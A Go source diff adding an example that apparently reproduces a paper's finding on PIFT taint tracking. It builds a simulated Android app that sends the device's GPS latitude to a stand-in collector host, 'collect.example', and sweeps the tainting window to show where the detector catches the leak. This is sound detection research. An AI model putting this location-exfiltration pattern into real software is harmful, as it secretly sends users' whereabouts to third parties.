@@ -1,0 +1,75 @@
+// Locationleak demonstrates the paper's GPS finding: a numeric location
+// leak passes through the ARM-runtime-ABI-style formatting helper, whose
+// load→store distances defeat small tainting windows — "NI had to be at
+// least 10 for PIFT to detect such a case". The example sweeps NI and
+// prints where detection switches on.
+package main
+
+import (
+	"fmt"
+	"log"
+
+	"repro/internal/android"
+	"repro/internal/core"
+	"repro/internal/cpu"
+	"repro/internal/dalvik"
+	"repro/internal/jrt"
+	"repro/internal/trace"
+)
+
+func buildLocationApp() (*dalvik.Program, error) {
+	b := dalvik.NewProgram("LocationLeak")
+	b.Class(android.LocationClass, "lat", "lon")
+	m := b.Method("Main.main", 8, 0)
+	m.InvokeStatic(android.MethodGetLocation)
+	m.MoveResultObject(0)
+	m.Iget(1, 0, "Location.lat") // tainted primitive field
+	m.InvokeStatic(jrt.MethodBuilderNew)
+	m.MoveResultObject(2)
+	m.ConstString(3, "lat=")
+	m.InvokeVirtual(jrt.MethodAppend, 2, 3)
+	m.MoveResultObject(2)
+	m.InvokeVirtual(jrt.MethodAppendInt, 2, 1) // number formatting
+	m.MoveResultObject(2)
+	m.InvokeVirtual(jrt.MethodToString, 2)
+	m.MoveResultObject(3)
+	m.ConstString(4, "http://collect.example/loc")
+	m.InvokeStatic(android.MethodSendHTTP, 4, 3)
+	m.ReturnVoid()
+	b.Entry("Main.main")
+	return b.Build(android.KnownExterns())
+}
+
+func main() {
+	prog, err := buildLocationApp()
+	if err != nil {
+		log.Fatal(err)
+	}
+
+	// Record the trace once, then replay it at each window size — the
+	// same record-once/sweep-many workflow the evaluation harness uses.
+	rec := trace.NewRecorder(1 << 14)
+	res, err := android.Run(prog, android.RunOptions{Sinks: []cpu.EventSink{rec}})
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Printf("payload: %q (really leaks: %v)\n\n",
+		res.Sinks[0].Payload, res.Sinks[0].ContainsSecret)
+
+	fmt.Println("NI sweep at NT=3 (untainting on):")
+	for ni := uint64(4); ni <= 14; ni++ {
+		tr := core.NewTracker(core.Config{NI: ni, NT: 3, Untaint: true}, nil)
+		rec.Replay(tr)
+		detected := false
+		for _, v := range tr.Verdicts() {
+			detected = detected || v.Tainted
+		}
+		marker := ""
+		if detected {
+			marker = "  <-- detected"
+		}
+		fmt.Printf("  NI=%-3d %v%s\n", ni, detected, marker)
+	}
+	fmt.Printf("\n(the digit-emit path of the formatting helper spans %d instructions)\n",
+		jrt.AppendIntLeadDistance)
+}
